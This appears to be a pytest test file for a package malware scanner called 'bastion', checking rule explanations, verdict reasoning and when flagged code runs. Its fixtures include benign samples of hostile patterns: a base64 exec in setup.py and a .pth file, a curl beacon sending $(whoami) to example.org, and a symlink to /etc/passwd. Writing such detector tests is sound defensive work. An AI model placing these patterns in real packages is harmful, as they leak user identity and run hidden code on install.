"""Every verdict explains itself: each rule id the scanner can emit has a "why it counts" and a
"what would make it clean", findings say when their code runs, and ``bastion scan --explain``
prints all of it with how the verdict was reached."""

from __future__ import annotations

import ast
import json
from pathlib import Path

import pytest

from bastion.scanning import scan_bytes
from bastion.scanning.explain import FAMILIES, RULES, explain, explained_json, lookup
from bastion.scanning.result import Finding, Severity, Verdict, deciding
from bastion.scanning.rules.archive import PROBLEM_RULES

from .helpers import PLAIN_SETUP, sdist, wheel
from .test_cli import run

SRC = Path(__file__).resolve().parents[2] / "src" / "bastion"
#: Where findings are made: the scanner, and the upload's entries for what a scan left out.
SOURCES = [*sorted((SRC / "scanning").rglob("*.py")), SRC / "upload" / "tasks.py"]


def _makers() -> dict[str, int]:
    """Calls that make a finding, and the position of their rule id: ``Finding`` and every
    function of the sources with a ``rule`` parameter (a new helper cannot hide its ids)."""
    makers = {"Finding": 0}
    for path in SOURCES:
        if path.name == "explain.py":  # reads rule ids, makes no finding
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.FunctionDef):
                names = [a.arg for a in node.args.args]
                if "rule" in names:
                    makers[node.name] = names.index("rule")
    return makers


#: Calls that make a finding, and the position of their rule id.
MAKERS = _makers()


def _rule_strings(node: ast.expr) -> tuple[set[str], set[str]]:
    """Rule ids written in ``node``: (whole ids, prefixes of ids built at run time)."""
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return {node.value}, set()
    if isinstance(node, ast.IfExp):
        a, pa = _rule_strings(node.body)
        b, pb = _rule_strings(node.orelse)
        return a | b, pa | pb
    if isinstance(node, ast.JoinedStr):
        head = node.values[0] if node.values else None
        prefix = head.value if isinstance(head, ast.Constant) else ""
        return set(), {str(prefix)}
    return set(), set()


def _is_problem_default(node: ast.AST) -> bool:
    return (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and isinstance(node.func.value, ast.Name)
        and node.func.value.id == "PROBLEM_RULES"
        and node.func.attr == "get"
        and len(node.args) == 2
        and isinstance(node.args[1], ast.Tuple)
    )


def emitted_rules() -> tuple[set[str], set[str]]:
    """Every rule id (and id prefix) in the sources, read from the calls that make findings,
    ``{"rule": ...}`` entries and the archive reader's table."""
    ids: set[str] = set()
    prefixes: set[str] = set()
    for path in SOURCES:
        tree = ast.parse(path.read_text(), str(path))
        for node in ast.walk(tree):
            found: tuple[set[str], set[str]] = (set(), set())
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                pos = MAKERS.get(node.func.id)
                if pos is not None and len(node.args) > pos:
                    found = _rule_strings(node.args[pos])
            elif _is_problem_default(node):  # PROBLEM_RULES.get(code, (rule, ...))
                assert isinstance(node, ast.Call) and isinstance(node.args[1], ast.Tuple)
                found = _rule_strings(node.args[1].elts[0])
            elif isinstance(node, ast.Dict):
                for key, value in zip(node.keys, node.values, strict=True):
                    if isinstance(key, ast.Constant) and key.value == "rule":
                        found = _rule_strings(value)
            ids |= found[0]
            prefixes |= found[1]
    ids |= {rule for rule, _, _ in PROBLEM_RULES.values()}
    return ids, prefixes


def test_every_rule_the_scanner_can_emit_is_explained() -> None:
    ids, prefixes = emitted_rules()
    assert len(ids) > 60 and {"exec-downloaded-code", "scan-incomplete", "pth-import"} <= ids
    assert {"_make", "_advice", "add", "_finding"} <= set(MAKERS)
    missing = sorted(i for i in ids if i not in RULES)
    assert not missing, f"rules without an entry in bastion/scanning/explain.py: {missing}"
    assert prefixes == {"yara:", "archive-"}
    assert all(p in FAMILIES for p in prefixes)
    stale = sorted(set(RULES) - ids)
    assert not stale, f"entries for rules the scanner no longer emits: {stale}"


def test_each_entry_says_why_and_what_would_make_it_clean() -> None:
    for rule, info in {**RULES, **FAMILIES}.items():
        for text in (info.why, info.clean_if):
            assert text.strip() and text.endswith((".", ")")), rule
            assert len(text) < 240, rule
    assert lookup("yara:my_rule") is FAMILIES["yara:"]
    assert lookup("archive-something-new") is FAMILIES["archive-"]
    assert lookup("no-such-rule") is None
    assert "rescan" in explain("no-such-rule").clean_if


IMPORT_TIME_NETWORK = (
    "import urllib.request\nDATA = urllib.request.urlopen('https://example.org/data').read()\n"
)


def test_findings_say_when_their_code_runs() -> None:
    setup = PLAIN_SETUP + "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    result = scan_bytes(sdist({"setup.py": setup}), "demo-1.0.tar.gz")
    found = next(f for f in result.findings if f.rule == "exec-obfuscated-code")
    assert found.context == "install time (setup.py)"
    assert result.to_json()["findings"][0]["context"] == "install time (setup.py)"

    result = scan_bytes(wheel({"demo/__init__.py": IMPORT_TIME_NETWORK}), "demo-1.0.whl")
    found = next(f for f in result.findings if f.rule == "network-on-start")
    assert found.context == "on import"

    pth = "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
    result = scan_bytes(wheel({"demo.pth": pth, "demo/__init__.py": ""}), "demo-1.0.whl")
    found = next(f for f in result.findings if f.rule == "pth-code-execution")
    assert found.context == "at every interpreter start (.pth)"

    # library modules (seven of them: not a small package whose modules count as import
    # time) run when called; findings made outside _make get their file's context too
    beacon = "import os\ndef f():\n    os.system('curl https://example.org/$(whoami)')\n"
    modules = {f"demo/m{i}.py": "" for i in range(6)}
    files = {"demo/__init__.py": "", "demo/a.py": beacon, **modules}
    result = scan_bytes(wheel(files), "demo-1.0.whl")
    found = next(f for f in result.findings if f.rule == "identity-beacon")
    assert found.context == "when the library module is imported or its functions are called"

    result = scan_bytes(sdist({"setup.py": PLAIN_SETUP, "tests/t.py": beacon}), "d.tar.gz")
    found = next(f for f in result.findings if f.rule == "identity-beacon")
    assert found.context == "never run on install: tests, docs or examples"

    # a fact about the archive itself runs nowhere
    result = scan_bytes(sdist({"setup.py": PLAIN_SETUP}, links={"x": "/etc/passwd"}), "d.tar.gz")
    found = next(f for f in result.findings if f.rule == "archive-link-escape")
    assert found.context is None


def test_stored_findings_of_any_version_are_read() -> None:
    old = {
        "rule": "network-on-start",
        "severity": "medium",
        "message": "Talks to the network on import.",
        "file": "demo/__init__.py",
        "line": 2,
        "excerpt": "urlopen(...)",
    }
    (item,) = explained_json([old, "not a finding", {"rule": "x", "severity": "bogus"}])
    assert item.finding.context is None and item.where == "demo/__init__.py:2"
    assert item.why == RULES["network-on-start"].why
    again = Finding.from_json({**old, "context": "on import"})
    assert again is not None and again.to_json()["context"] == "on import"


def test_deciding_names_what_made_the_verdict() -> None:
    high = Finding("exec-downloaded-code", Severity.HIGH, "m", "setup.py", 3)
    med = Finding("pip-install", Severity.MEDIUM, "m")
    low = Finding("pth-import", Severity.LOW, "m")
    advisory = Finding("legacy-crypto-pycrypto", Severity.INFO, "m", advisory=True)
    assert deciding([low, med, high, advisory]) == [high]
    assert deciding([low, med, advisory]) == [med, low]
    assert deciding([low, advisory]) == []


@pytest.fixture
def dropper(tmp_path: Path) -> Path:
    path = tmp_path / "demo-1.0.tar.gz"
    setup = PLAIN_SETUP + "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    path.write_bytes(sdist({"setup.py": setup}))
    return path


def test_scan_explain_prints_where_when_why_and_the_fix(dropper: Path, tmp_path: Path) -> None:
    clean = tmp_path / "clean-1.0.tar.gz"
    clean.write_bytes(sdist({"setup.py": PLAIN_SETUP}))
    proc = run("scan", "--explain", str(dropper), str(clean))
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    info = RULES["exec-obfuscated-code"]
    assert "[high] exec-obfuscated-code: " in out
    assert "      at demo-1.0/setup.py:" in out
    assert "      > exec(base64.b64decode('cHJpbnQoMSk='))" in out
    assert "      when it runs: install time (setup.py)" in out
    assert f"      why: {info.why}" in out
    assert f"      clean if: {info.clean_if}" in out
    assert (
        "  Verdict: MALICIOUS. Any high finding makes an archive malicious; decided by "
        "exec-obfuscated-code (high)" in out
    )
    assert "  Verdict: CLEAN. No high finding and a score of 0" in out
    # without --explain the summary stays as it was
    plain = run("scan", str(dropper)).stdout
    assert "why:" not in plain and "Verdict:" not in plain


def test_scan_explain_json_adds_why_and_clean_if(dropper: Path) -> None:
    data = json.loads(run("scan", "--json", "--explain", str(dropper)).stdout)
    assert data["verdict"] == Verdict.MALICIOUS and {"score", "seconds", "path"} <= set(data)
    first = data["findings"][0]
    assert first["rule"] == "exec-obfuscated-code" and first["severity"] == "high"
    assert first["why"] == RULES["exec-obfuscated-code"].why
    assert first["clean_if"] == RULES["exec-obfuscated-code"].clean_if
    assert first["context"] == "install time (setup.py)"
    plain = json.loads(run("scan", "--json", str(dropper)).stdout)
    assert "why" not in plain["findings"][0]
